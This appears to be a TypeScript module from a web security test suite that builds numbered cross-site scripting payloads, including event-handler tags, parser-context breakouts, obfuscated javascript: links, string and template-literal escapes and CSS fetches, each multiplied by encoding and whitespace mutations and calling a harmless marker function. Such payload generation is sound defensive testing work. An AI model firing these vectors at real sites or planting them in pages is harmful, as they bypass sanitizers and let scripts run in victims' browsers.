/**
 * Attacks in the form of text, each of which calls `top.__hit(n)` or loads `/leak/n` if a page lets it, where `n` is its
 * own number. Made from families and mutations, so that a new idea is one line here and many payloads there.
 */
export interface Payload {
  readonly id: number
  readonly family: string
  readonly text: string
  /** The names of sinks (see `sinks.ts`) in which it runs if nobody encodes it. */
  readonly runsIn: readonly string[]
}

/** Stands for the code until a payload has its number: a letter would change with the case, a quote with the quotes. */
const code = '\u0001'
/** The number alone, for a request instead of a call. */
const number = '\u0002'

/** Elements that run code by themselves or once somebody touches them. Every value is in double quotes. */
const elements = [
  `<img src="data:,x" onerror="${code}">`,
  `<img srcset="data:,x" onerror="${code}">`,
  `<picture><source srcset="data:,x"><img onerror="${code}"></picture>`,
  `<svg><animate onbegin="${code}" attributeName="x" dur="1s">`,
  `<svg><a xlink:href="javascript:${code}"><text>x</text></a></svg>`,
  `<details open ontoggle="${code}">`,
  `<iframe src="javascript:${code}">`,
  `<iframe onload="${code}">`,
  `<iframe srcdoc="&lt;body/onload=${code}&gt;">`,
  `<video><source onerror="${code}" src="data:,x"></video>`,
  `<audio src="data:,x" onerror="${code}">`,
  `<style onload="${code}"></style>`,
  `<link rel="stylesheet" href="data:," onload="${code}">`,
  `<object data="data:text/html,x" onload="${code}"></object>`,
  `<input type="image" src="data:,x" onerror="${code}">`,
  `<input onfocus="${code}" autofocus>`,
  `<x tabindex="1" onfocus="${code}">x</x>`,
  `<div onmouseover="${code}">x</div>`,
  `<a href="javascript:${code}">x</a>`,
  `<form action="javascript:${code}"><button>x</button></form>`,
  `<form><button formaction="javascript:${code}">x</button></form>`,
] as const

/** Scripts: nothing for innerHTML, everything for a page that is written. */
const scripts = [
  `<script>${code}</script>`,
  `<svg onload="${code}">`,
  `<svg/onload=${code}//>`,
  `<body onload="${code}">`,
  `<script >${code}</script >`,
  `<script\n>${code}</script\t>`,
  `<SCRIPT type="module">${code}</SCRIPT>`,
  `<script src="data:text/javascript,${code}"></script>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><script>top&period;__hit&lpar;${number})</script></svg>`,
  `<script async src="data:text/javascript,${code}"></script>`,
]

const image = `<img src="data:,x" onerror="${code}">`

/** Places where two parsers, or a reader and a parser, disagree about where markup begins. */
const contexts = [
  `<noscript><p title="</noscript>${image}">`,
  `<textarea><p title="</textarea>${image}">`,
  `<title><p title="</title>${image}">`,
  `<xmp><p title="</xmp>${image}">`,
  `<iframe><p title="</iframe>${image}">`,
  `<noembed><p title="</noembed>${image}">`,
  `<noframes><p title="</noframes>${image}">`,
  `<style><p title="</style>${image}">`,
  `<!-->${image}-->`,
  `<!--->${image}-->`,
  `<!--a--!>${image}-->`,
  `<!a>${image}`,
  `<?a>${image}`,
  `</ a>${image}`,
  `<![CDATA[>${image}]]>`,
  `<svg><![CDATA[</svg>]]>${image}`,
  `<svg><style>${image}</style></svg>`,
  `<svg><title>${image}</title></svg>`,
  `<svg><desc>${image}</desc></svg>`,
  `<svg><foreignObject>${image}</foreignObject></svg>`,
  `<math><mtext>${image}</mtext></math>`,
  `<math><style>${image}</style></math>`,
  `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
  `<table>${image}</table>`,
  `<table><td>${image}`,
  `<form><form>${image}`,
  `<p><p></p>${image}`,
  `<b><i></b>${image}`,
  `<a name="__hit">x</a>${image}`,
  `${'<div>'.repeat(200)}${image}`,
  `${'x'.repeat(4_000)}${image}`,
  `<<${image}`,
  `&lt;${image}`,
  `\u2028${image}\u2029`,
  `\ufeff${image}`,
  `\u202e${image}\u202c`,
]

/** What follows a way out. */
const outside = [
  `<img src=data:,x onerror=${code}>`,
  `<svg onload=${code}>`,
  `<script>${code}</script>`,
  `<iframe src=javascript:${code}>`,
  `<video src=data:,x onerror=${code}>`,
  `<body onload=${code}>`,
  `<input onfocus=${code}>`,
  `<a href=javascript:${code}>x</a>`,
]

const inQuotes = ['double-quoted attribute', 'href, whole', 'href, one component', 'inline style, bare']
const inScripts = ['JSON island', 'JSON island that is no script', 'string in "', "string in '", 'template literal']

/** Ways out of wherever the text was put, and where they lead out. */
const exits: readonly [string, readonly string[]][] = [
  ['">', [...inQuotes, 'inline style, in quotes']],
  ['x">', inQuotes],
  ['"\t>', inQuotes],
  ['"/x>', inQuotes],
  [`'>`, ['single-quoted attribute']],
  [`x'/y>`, ['single-quoted attribute']],
  [`';">`, ['inline style, in quotes']],
  ['</script>', inScripts],
  ['</SCRIPT >', inScripts],
  ['--></script/x>', inScripts],
  ['"></iframe>', ['srcdoc']],
  ['</style>', ['style sheet']],
  ['"}</STYLE\n>', ['style sheet']],
  ['*/</style/>', ['style sheet']],
]

/** Ways to add an attribute to the one that holds the text. */
const attributes = [
  `onmouseover="${code}"`,
  `onmouseover=${code}`,
  `onfocus="${code}" tabindex="1"`,
  `onclick="${code}"`,
  `autofocus tabindex="1" onfocus="${code}"`,
  `onmouseover="${code}" style="width:9em"`,
  `onmouseover=top&period;__hit(${number})`,
]

/** Ways to be a link that is code. */
const urls = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\tscript:${code}`,
  `java\nscript:${code}`,
  `java\r\nscript:${code}`,
  `j\na\nv\na\ns\nc\nr\ni\np\nt\n:${code}`,
  `javascript\t:${code}`,
  ` javascript:${code}`,
  `\n\tjavascript:${code}`,
  `\u000b javascript:${code}`,
  `\u001fjavascript:${code}`,
  `javascript://comment%0a${code}`,
  `javascript:/*https://a.example/*/${code}`,
  `javascript:%74op.__hit(${number})`,
  `javascript:void%20${code}`,
  `javascript:'https://a.example/';${code}`,
  `&#106;avascript:${code}`,
  `&#x6A;avascript:${code}`,
  `&#0000106avascript:${code}`,
  `javascript&colon;${code}`,
  `javascript&#58;${code}`,
  `java&Tab;script:${code}`,
  `java&NewLine;script:${code}`,
  `&#1;javascript:${code}`,
]

/** Ways out of a JavaScript string. */
const strings = (quote: string) => [
  `${quote};${code}//`,
  `${quote};${code};${quote}`,
  `${quote}-${code}-${quote}`,
  `${quote}||${code}||${quote}`,
  `${quote}\n${code}//`,
  `${quote}\u2028${code}//`,
  `${quote};/**/${code};/**/${quote}`,
  `${quote};try{${code}}catch{}//`,
  `\\\\${quote};${code}//`,
  `\\x41${quote};${code}//`,
]

/** Code inside a template literal, where no quote has to be left. */
const holes = [
  `\${${code}}`,
  `\${[${code}]}`,
  `$\${${code}}`,
  `\${\`\${${code}}\`}`,
  `\\\\\${${code}}`,
  `\${/*}*/${code}}`,
]

/** Ways to make a style fetch something, which is the most that a style can do by itself. */
const styles = (quote: string) => [
  `x${quote};background:url(/leak/${number});x:${quote}`,
  `x${quote};background:url('/leak/${number}');x:${quote}`,
  `x${quote};background:image-set('/leak/${number}' 1x);x:${quote}`,
  `x${quote};list-style:url(/leak/${number});display:list-item;x:${quote}`,
  `x${quote};BACKGROUND:URL( /leak/${number} );x:${quote}`,
  `x${quote};background:u\\72l(/leak/${number});x:${quote}`,
  `x${quote}/**/;background:url(/leak/${number});x:${quote}`,
  `x${quote};cursor:url(/leak/${number}),auto;x:${quote}`,
]

type Mutate = (text: string) => string

/** The same attack in other words. A mutation that leaves an attack as it is adds nothing, and is left out. */
const mutations: Readonly<Record<string, Mutate>> = {
  'as it is': (text) => text,
  'upper case': (text) => text.toUpperCase(),
  'slashes for spaces': (text) => text.replace(/ (?=[^<>]*>)/g, '/'),
  'line feeds for spaces': (text) => text.replaceAll(' ', '\n'),
  'form feeds for spaces': (text) => text.replaceAll(' ', '\f'),
  'single quotes': (text) => text.replaceAll('"', "'"),
  'no quotes': (text) => text.replaceAll('"', ''),
  'entities in the code': (text) => text.replaceAll(code, `&#116;op&period;__hit&lpar;${number}&rpar;`),
  'numbers without an end': (text) => text.replaceAll(code, `&#x74op&#46__hit(${number}&#x29`),
  'left open': (text) => text.replace(/>[^<>]*$/, ' '),
}

function mutated(texts: readonly string[]): Map<string, string[]> {
  const seen = new Set<string>()
  const each = Object.entries(mutations).map(([name, mutate]): [string, string[]] => {
    const others = texts.map(mutate).filter((text) => !seen.has(text))
    for (const other of others) seen.add(other)
    return [name, others]
  })
  return new Map(each)
}

function entities(text: string): string {
  return text.replaceAll('<', '&lt;').replaceAll('>', '&#62;')
}

interface Family {
  readonly name: string
  readonly texts: readonly string[]
  readonly runsIn: readonly string[]
}

const families: readonly Family[] = [
  ...[...mutated(elements)].map(([name, texts]) => ({
    name: `element, ${name}`,
    texts,
    // Without its end a tag is nothing, unless the page goes on after it.
    runsIn: name === 'left open' ? ['element content'] : ['innerHTML'],
  })),
  { name: 'script', texts: scripts, runsIn: ['element content'] },
  { name: 'context', texts: contexts, runsIn: ['element content'] },
  ...exits.map(([exit, runsIn]) => ({ name: `exit ${exit}`, texts: outside.map((rest) => exit + rest), runsIn })),
  ...(['"', "'"] as const).map((quote) => ({
    name: `attribute after ${quote}`,
    texts: attributes.flatMap((attribute) => [`${quote} ${attribute} `, `x${quote}${attribute} x=${quote}`]),
    runsIn: quote === '"' ? ['double-quoted attribute', 'inline style, bare'] : ['single-quoted attribute'],
  })),
  { name: 'no way out needed', texts: outside, runsIn: ['srcdoc', 'element content'] },
  // Entities are all that the text of an attribute is read for, before it becomes a page.
  { name: 'encoded already', texts: outside.map(entities), runsIn: ['srcdoc'] },
  { name: 'link', texts: urls, runsIn: ['href, whole'] },
  { name: 'string in "', texts: strings('"'), runsIn: ['string in "'] },
  { name: "string in '", texts: strings("'"), runsIn: ["string in '"] },
  { name: 'string in `', texts: [...strings('`'), ...holes], runsIn: ['template literal'] },
  { name: 'bare style', texts: styles(''), runsIn: ['inline style, bare'] },
  { name: "style in '", texts: styles("'"), runsIn: ['inline style, in quotes'] },
  { name: 'style in "', texts: styles('"'), runsIn: ['style sheet'] },
]

/** Where each text runs: two families may have come to the same one. */
const places = new Map<string, { readonly family: string; readonly runsIn: Set<string> }>()
for (const { name, texts, runsIn } of families) {
  for (const text of texts) {
    const known = places.get(text) ?? { family: name, runsIn: new Set() }
    for (const place of runsIn) known.runsIn.add(place)
    places.set(text, known)
  }
}

/** Every payload, numbered from 1. */
export const payloads: readonly Payload[] = [...places].map(([text, { family, runsIn }], index) => {
  const id = index + 1
  const numbered = text.replaceAll(code, `top.__hit(${id})`).replaceAll(number, String(id))
  return { id, family, text: numbered, runsIn: [...runsIn] }
})
